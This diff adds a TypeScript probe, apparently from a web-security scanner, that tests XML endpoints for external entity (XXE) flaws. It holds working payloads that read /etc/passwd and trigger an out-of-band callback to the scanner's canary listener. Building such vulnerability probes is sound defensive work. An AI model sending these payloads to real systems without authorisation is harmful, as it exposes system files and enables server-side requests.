@@ -1,0 +1,62 @@
+import { Canary } from '../canary.ts'
+import { exchangesOf, type Probing, trialOn } from '../probing.ts'
+import { isSuccess, type Reply } from '../reply.ts'
+
+/** XML with entities, where XML is taken at all. */
+export async function probeXmlEntities(probing: Probing): Promise<void> {
+  const operations = probing.wireOperations
+    .filter(
+      (operation) =>
+        operation.method === 'POST' &&
+        operation.purpose === 'other' &&
+        (/xml/i.test(operation.body?.contentType ?? '') || /xml|import|soap|feed/i.test(operation.path)),
+    )
+    .slice(0, 4)
+  if (operations.length === 0) return void probing.notTried('xmlEntities', 'XML', 'no-data', 'no operation takes XML')
+  const canary = await Canary.open()
+  try {
+    for (const operation of operations) {
+      const nonce = probing.values.nonce('entity', 14)
+      const word = probing.values.nonce('entityword', 14)
+      const send = (body: string): Promise<Reply> =>
+        probing.send(probing.identities.userA, {
+          method: 'POST',
+          path: operation.path,
+          headers: { 'content-type': 'application/xml' },
+          body,
+          mayFail: true,
+        })
+      const plain = await send(`<?xml version="1.0"?><root><name>${word}</name></root>`)
+      const inside = await send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e "${word}x${word}">]><root><name>&e;</name></root>`)
+      const file = await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
+      const outside = await send(
+        `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "${canary.baseUrl}/${nonce}">]><root><name>&e;</name></root>`,
+      )
+      const hit = await canary.hitBy(nonce, 200)
+      const isFile = /^root:[^:\n]*:0:0:/m.test(file.body)
+      const again = isFile
+        ? await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
+        : null
+      probing.trial(
+        'xmlEntities',
+        trialOn(operation, {
+          name: 'entities',
+          saw:
+            isFile || hit !== null ? 'effect' : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain) ? 'no-effect' : 'unclear',
+          effect: isFile
+            ? 'an entity gives a file of the system'
+            : hit !== null
+              ? `an entity made the service ask our listener: ${hit}`
+              : `entities were not resolved (${inside.status})`,
+          identity: probing.identities.userA?.name ?? 'anonymous',
+          baseline: plain.exchange,
+          control: plain.exchange,
+          attempts: exchangesOf(isFile ? file : outside, again),
+          reproduced: { count: isFile || hit !== null ? 2 : 0, of: 2 },
+        }),
+      )
+    }
+  } finally {
+    await canary.close()
+  }
+}
